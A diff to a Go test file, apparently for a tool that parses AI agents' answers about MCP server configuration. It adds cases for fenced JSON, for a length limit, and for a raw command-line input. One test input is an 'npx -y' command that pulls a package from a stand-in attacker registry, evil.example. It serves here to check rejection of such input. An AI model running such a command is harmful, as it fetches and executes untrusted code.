@@ -60,6 +60,7 @@ func TestAgentAnswers(t *testing.T) {
 		{"prose after", fence("json", entry) + "\nGood luck!", lookup.CodeAgentFailed},
 		{"two fences", fence("json", entry) + "\n" + fence("json", entry), lookup.CodeAgentFailed},
 		{"a fence inside", fence("json", `{"command": "a", "args": ["`+"```"+`"]}`), lookup.CodeAgentFailed},
+		{"a fence with a title", "```json notes.json\n" + entry + "\n```", lookup.CodeAgentFailed},
 		{"open fence", "```json\n" + entry, lookup.CodeAgentFailed},
 		{"two servers", fence("json", `{"mcpServers": {"a": {"command": "a"}, "b": {"command": "b"}}}`), lookup.CodeAgentFailed},
 		{"no server", fence("json", `{"mcpServers": {}}`), lookup.CodeAgentFailed},
@@ -68,7 +69,8 @@ func TestAgentAnswers(t *testing.T) {
 		{"a command line", fence("sh", "npx -y @acme/notes"), lookup.CodeAgentFailed},
 		{"broken", fence("json", `{"mcpServers": {"a": `+"\x01"), lookup.CodeAgentFailed},
 		{"nothing", "", lookup.CodeAgentFailed},
-		{"too long", fence("json", entry+strings.Repeat(" ", 64<<10)), lookup.CodeAgentFailed},
+		{"just short enough", fence("json", entry+strings.Repeat(" ", 64<<10-len(fence("json", entry)))), ""},
+		{"too long", fence("json", entry+strings.Repeat(" ", 64<<10-len(fence("json", entry))+1)), lookup.CodeAgentFailed},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -160,6 +162,7 @@ func TestAgentNotAsked(t *testing.T) {
 				{"name": "io.github.b/notes", "packages": [{"registryType": "npm", "identifier": "notes", "packageArguments": [{"value": "b"}]}]}]}`), nil
 		}, lookup.CodeAmbiguous},
 		{"invalid", "https://github.com/acme", nil, lookup.CodeInvalid},
+		{"a command line", "npx -y --registry https://evil.example @acme/notes", nothingThere().answer, lookup.CodeNotFound},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
